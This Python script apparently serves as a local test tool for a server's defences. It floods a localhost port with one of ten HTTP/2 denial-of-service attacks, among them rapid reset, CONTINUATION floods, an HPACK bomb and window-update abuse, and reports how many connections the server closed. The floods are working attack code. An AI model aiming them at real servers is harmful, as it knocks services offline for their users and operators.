#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""One kind of HTTP/2 flood at a port, for some seconds: flood.py KIND PORT SECONDS.

python3-h2 makes the connections and what is well-formed; hyperframe the frames that it would not send.
Prints what was sent, and how many connections the server ended.
"""
import signal, socket, sys, time

import h2.config
import h2.connection
import h2.settings
from hyperframe import frame as f

HOST, CONNECTIONS, AT_ONCE, PAUSE = "acme-test.localhost", 16, 50, 0.25
signal.signal(signal.SIGINT, lambda *_: setattr(Peer, "told", True))


class Script:
    """What a connection says, turn by turn: each says the same, so it is made once. An attacker elsewhere takes no time of this machine's."""

    def __init__(self, make, settings):
        self.make, self.turns, self.stream = make, [], -1
        h2conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, validate_outbound_headers=False))
        h2conn.local_settings = h2.settings.Settings(client=True, initial_values=settings)
        h2conn.initiate_connection()
        self.hello, self.encoder = h2conn.data_to_send(), h2conn.encoder

    def request(self, path, end=True):
        self.stream += 2
        fields = [(":method", "GET" if end else "POST"), (":scheme", "http"), (":authority", HOST), (":path", path)]
        block = self.encoder.encode(fields)
        return f.HeadersFrame(self.stream, block, flags=["END_HEADERS"] + (["END_STREAM"] if end else []))

    def turn(self, n):
        while n >= len(self.turns):
            self.turns.append(b"".join(x.serialize() for x in self.make(self)))
        return self.turns[n]


class Peer:
    """A connection; a while after the server ends it, the next is made."""

    told = False  # to end

    def __init__(self, port, script):
        self.port, self.script = port, script
        self.ended = -1
        self.open()

    def over(self):
        self.socket.close()
        self.socket, self.after = None, time.monotonic() + PAUSE

    def open(self):
        self.ended += 1
        self.after = 0
        self.socket = socket.create_connection(("127.0.0.1", self.port), 5)
        self.socket.setblocking(False)
        self.turns, self.left = 0, self.script.hello

    def turn(self, reads, pause):
        """Sends as much as goes; False when nothing moved."""
        if time.monotonic() < self.after:
            return False
        if not self.socket:
            self.open()
        try:
            if not self.left:
                self.left = self.script.turn(self.turns)
                self.turns += 1
                self.after = time.monotonic() + pause
            sent = self.socket.send(self.left) if self.left else 0
            self.left = self.left[sent:]
        except BlockingIOError:
            sent = 0
        except OSError:
            self.over()
            return True
        try:
            if reads and self.socket.recv(65536) == b"":
                raise ConnectionResetError
        except BlockingIOError:
            pass
        except OSError:
            self.over()
        return sent > 0


def rapid_reset(s):
    out = []
    for _ in range(AT_ONCE):
        out += [s.request("/slow/x"), f.RstStreamFrame(s.stream, 8)]
    return out


def made_resets(s):
    out = []
    for _ in range(AT_ONCE):  # a window beyond 2^31 is the stream's error
        out += [s.request("/slow/x"), f.WindowUpdateFrame(s.stream, window_increment=(1 << 31) - 1)]
    return out


def behind_the_end(s):
    first = [s.request("/slow/x"), f.RstStreamFrame(s.stream, 8)] if not s.turns else []
    return first + [f.DataFrame(s.stream, b"") for _ in range(AT_ONCE)]


def continuation(s):
    first = [f.HeadersFrame(1, b"\x82", flags=["END_STREAM"])] if not s.turns else []
    return first + [f.ContinuationFrame(1, b"\x00\x01x\x01y") for _ in range(AT_ONCE)]


def hpack_bomb(s):
    # A field of 4,000 bytes goes into the table once, and is then named by a byte each.
    large = b"\x40\x01x\x7f\xa1\x1e" + b"y" * 4000
    out = [s.request("/slow/x")]
    out[0].data += large + b"\xbe" * 12000
    return out


def tiny_windows(s):
    if not s.turns:
        return [s.request("/slow/large") for _ in range(AT_ONCE)]
    return [f.WindowUpdateFrame(1 + 2 * i, window_increment=1) for i in range(AT_ONCE)]  # less than what would end the connection


def empty_data(s):
    return ([s.request("/slow/x", end=False)] if not s.turns else []) + [f.DataFrame(s.stream, b"") for _ in range(AT_ONCE)]


KINDS = {  # frames of a turn, SETTINGS, whether it reads what comes, seconds between turns
    "rapid reset": (rapid_reset, {}, True, 0),
    "made resets": (made_resets, {}, True, 0),
    "DATA behind the end": (behind_the_end, {}, True, 0),
    "CONTINUATION": (continuation, {}, True, 0),
    "SETTINGS": (lambda s: [f.SettingsFrame(0) for _ in range(AT_ONCE)], {}, False, 0),
    "PING": (lambda s: [f.PingFrame(0, b"12345678") for _ in range(AT_ONCE)], {}, False, 0),
    "HPACK bomb": (hpack_bomb, {}, True, 0),
    "tiny windows": (tiny_windows, {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0}, True, PAUSE),
    "empty DATA": (empty_data, {}, True, 0),
    "unread answers": (lambda s: [s.request("/slow/large")] if len(s.turns) < 100 else [], {h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 1 << 30}, False, 0),
}


def main():
    kind, port, seconds = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
    make, settings, reads, pause = KINDS[kind]
    script = Script(make, settings)
    peers = [Peer(port, script) for _ in range(CONNECTIONS)]
    end = time.monotonic() + seconds
    while time.monotonic() < end and not Peer.told:
        if not any([p.turn(reads, pause) for p in peers]):
            time.sleep(0.001)
    print(f"     {kind}: {sum(p.ended for p in peers)} connections were ended by the server", flush=True)


main()
